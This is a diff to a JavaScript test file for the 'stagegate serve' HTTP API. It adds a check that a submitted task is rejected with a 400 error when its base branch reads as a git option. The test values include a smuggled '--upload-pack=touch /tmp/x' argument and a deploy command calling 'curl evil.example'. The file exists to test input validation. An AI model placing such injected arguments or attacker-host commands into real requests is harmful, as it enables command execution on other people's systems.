@@ -308,11 +308,15 @@ describe('stagegate serve: submitting over the HTTP API', () => {
     expect(record.context.policies).toEqual(config.gates);
   });
 
-  it('refuses a local path or a deploy command with 400 naming the field, submitting nothing', async () => {
+  it('refuses a local path, a base that reads as an option or a deploy command with 400 naming the field, submitting nothing', async () => {
     const before = await inboxSequence();
     expect(await call('POST', '/api/tasks', { body: { ...submission, repo: '/srv/repos/app' }, token: OUTSIDER_TOKEN })).toMatchObject({
       status: 400,
       json: { error: { code: 'SCHEMA_INVALID', message: expect.stringMatching(/^task submission: 'repo' expected a git URL the workers can clone/) } },
+    });
+    expect(await call('POST', '/api/tasks', { body: { ...submission, base: '--upload-pack=touch /tmp/x' }, token: OUTSIDER_TOKEN })).toMatchObject({
+      status: 400,
+      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringMatching(/^task submission: 'base' expected a branch name/) } },
     });
     expect(await call('POST', '/api/tasks', { body: { ...submission, deployCommand: 'curl evil.example' }, token: OUTSIDER_TOKEN })).toMatchObject({
       status: 400,
